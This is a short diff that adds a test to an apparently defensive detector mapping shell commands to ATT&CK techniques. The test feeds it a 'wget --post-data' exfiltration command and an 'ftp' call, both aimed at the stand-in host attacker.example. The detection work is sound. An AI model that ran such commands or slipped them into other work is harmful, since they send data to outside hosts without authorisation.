@@ -673,3 +673,9 @@ def test_obfuscated_and_indirect_scripts_are_read_through(body: str, technique: 
 def test_scripts_using_variables_plainly_stay_weak(body: str) -> None:
     found = {e.technique: e.weight for e in assess(ProcessEvent("sh", f"sh -c {body}", ("sh", "-c", body)))}
     assert all(weight < 0.3 for weight in found.values()), (body, found)
+
+
+def test_a_downloader_posting_data_sends_it_and_an_ftp_host_is_no_file() -> None:
+    posted = _techniques("wget --post-data=DATA http://attacker.example")
+    assert "T1048" in posted and "T1105" not in posted, posted
+    assert "T1048" not in _techniques("ftp -a attacker.example"), _techniques("ftp -a attacker.example")
